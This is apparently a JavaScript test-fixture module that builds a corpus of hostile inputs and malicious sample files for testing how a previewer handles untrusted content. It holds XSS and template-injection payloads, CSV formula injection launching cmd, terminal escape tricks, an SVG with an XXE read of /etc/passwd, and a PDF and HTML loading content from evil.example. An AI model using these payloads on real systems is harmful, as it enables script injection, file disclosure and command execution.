// What people who mean ill write where others will read it; each one calls `pwned` if anything of it is ever run.
const RUN = "window.pwned&&pwned()";

/** Markup that runs where text becomes HTML. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror='${RUN}'>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x\`\` onerror=${RUN}//">`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<form action="javascript:${RUN}"><button autofocus>x</button></form>`,
  `<isindex action=javascript:${RUN} type=image>`,
  `<base href="javascript:/a/-${RUN}///////">`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<div style="background:url(//evil.example/x)">x</div>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x onpointerrawupdate=${RUN} style=position:fixed;inset:0>x</x>`,
];
/** Text that runs where it becomes an address, an attribute, a template or a program. */
const TEXT = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `' onmouseover='${RUN}`,
  `" autofocus onfocus="${RUN}`,
  "` onmouseover=`" + RUN,
  `{{ constructor.constructor('${RUN}')() }}`,
  `{{_openBlock.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `';${RUN};//`,
  `\\';${RUN};//`,
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `<javascript:${RUN}>`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `\u001b]8;;javascript:${RUN}\u0007click\u001b]8;;\u0007`,
  `\u001b[31m<img src=x onerror=${RUN}>\u001b[0m`,
  `\u001b]0;${RUN}\u0007\u001b[2J\u001b[999999999A`,
  `\u202egnp.exe\u202c`,
  `\u2066\u2067<b>\u2069\u2069`,
  `\u200b\u200d\ufeff`,
  `a${"\u0301".repeat(60)}`,
  `__proto__`,
  `constructor`,
  `toString`,
];
export const CORPUS = [...MARKUP, ...TEXT];

/** What may stand in a header, a name or a path: no character that a terminal or the protocol takes for its own. */
export const NAMES = CORPUS.filter((text) => !/[\u0000-\u001f\u007f]/.test(text));

const SVG = `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${RUN}"><script>parent.${RUN}; top.${RUN}</script><image xlink:href="//evil.example/x.png"/><a xlink:href="javascript:${RUN}"><text y="9">&#120;</text></a></svg>`;
const PDF = `%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);${RUN})>>/AA<</WC<</S/URI/URI(http://evil.example/)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</Font<</F1<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(javascript:${RUN})>>>>]>>endobj
4 0 obj<</Length 39>>stream
BT /F1 30 Tf 5 40 Td (the ferry) Tj ET
endstream endobj
trailer<</Root 1 0 R>>
%%EOF`;
const HTML = `<!doctype html><html><head><base href="//evil.example/"><script src="//evil.example/x.js"></script></head><body onload="${RUN}">${MARKUP.join("\n")}</body></html>`;

/** Files of every kind that has a preview, by their names. */
export const FILES = {
  "page.html": HTML,
  "page.xhtml": HTML,
  "image.svg": SVG,
  "image.png": HTML,
  "image.gif": `GIF89a/*${"x".repeat(30)}*/=1;${RUN};//<script>${RUN}</script>`,
  "doc.pdf": PDF,
  "lies.pdf": HTML,
  "note.md": CORPUS.join("\n\n"),
  "note.txt": CORPUS.join("\n"),
  "run.log": CORPUS.join("\n"),
  "run.py": CORPUS.join("\n"),
  "feed.xml": `<?xml-stylesheet href="javascript:${RUN}"?>${SVG}`,
  "table.csv": [NAMES.map(quoted), NAMES.map(quoted), NAMES.map(quoted)].map((row) => row.join(",")).join("\n"),
  "table.tsv": `${CORPUS.slice(0, 8).join("\t")}\n${CORPUS.slice(8, 16).join("\t")}`,
  "data.json": JSON.stringify({ corpus: CORPUS, ...Object.fromEntries(CORPUS.map((text) => [text, text])) }),
  "half.json": `{"a": "${MARKUP[0]}`,
};

function quoted(text) {
  return `"${text.replaceAll('"', '""')}"`;
}
